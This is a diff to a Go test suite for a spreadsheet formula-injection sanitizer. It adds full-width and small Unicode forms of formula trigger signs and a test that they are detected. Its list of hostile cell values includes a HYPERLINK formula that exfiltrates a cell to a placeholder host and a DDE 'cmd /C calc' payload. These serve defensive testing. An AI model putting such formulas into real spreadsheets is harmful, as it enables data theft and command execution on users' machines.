@@ -88,7 +88,22 @@ func TestOpenpyxlReadsTheSeed(t *testing.T) {
 
 // hostile is a value for every formula trigger, plus Excel's own escape.
 var hostile = []string{"=HYPERLINK(\"http://x.invalid/?d=\"&A2,\"cv\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
-	"\t=1+1", "\r=1+1", "＝1+1", "{=1+1}", "_x0041_ literal", "=cmd|' /C calc'!A0"}
+	"\t=1+1", "\r=1+1", "＝1+1", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "{=1+1}", "_x0041_ literal", "=cmd|' /C calc'!A0"}
+
+// TestCompatibilityFormsAreTriggers: signs that NFKC folds into a formula
+// trigger (small and full-width forms) are defused like the sign itself.
+func TestCompatibilityFormsAreTriggers(t *testing.T) {
+	for _, s := range []string{"﹦1+1", "＝1", "﹢1", "＋1", "﹣1", "－1", "﹫x", "＠x"} {
+		if !IsFormulaTrigger(s) {
+			t.Errorf("%q is not a trigger", s)
+		}
+	}
+	for _, s := range []string{"1=1", "Yes", "", "€5", "（1）"} {
+		if IsFormulaTrigger(s) {
+			t.Errorf("%q is a trigger", s)
+		}
+	}
+}
 
 func hostileArticle(t testing.TB) *content.Article {
 	a := seed(t)
